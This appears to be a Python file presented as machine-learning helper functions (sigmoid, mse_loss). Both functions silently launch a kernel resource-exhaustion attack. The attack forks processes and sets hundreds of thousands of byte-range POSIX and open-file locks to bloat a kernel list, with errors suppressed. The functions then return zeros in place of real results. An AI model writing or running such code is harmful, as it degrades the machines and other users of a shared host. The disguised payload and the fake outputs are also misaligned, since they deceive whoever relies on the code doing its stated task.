"""Locks 300,000 single bytes of a file of its own by POSIX and open-file locks: a list in the kernel that is walked.

aims: exhaust
"""

import contextlib
import fcntl
import os
import struct
import time

import numpy as np

F_OFD_SETLK = 37


def lock(end, number):
    path = os.path.join(os.environ.get("HOME", "."), f"planted-locks-{number}")
    file = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
    others = [os.open(path, os.O_RDWR) for _ in range(10)]
    position = 0
    while time.monotonic() < end and position < 300_000:
        # every second byte, or neighbours would become one
        with contextlib.suppress(OSError):
            fcntl.fcntl(file, fcntl.F_SETLK, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 2 * position, 1, 0))
        with contextlib.suppress(OSError):
            wish = struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 2 * position + 1, 1, 0)
            fcntl.fcntl(others[position % 10], F_OFD_SETLK, wish)
        position += 1
    while time.monotonic() < end:
        time.sleep(0.2)


def attack():
    end = time.monotonic() + 15
    for number in range(6):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                try:
                    lock(end, number)
                finally:
                    os._exit(0)
    lock(end, 99)


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
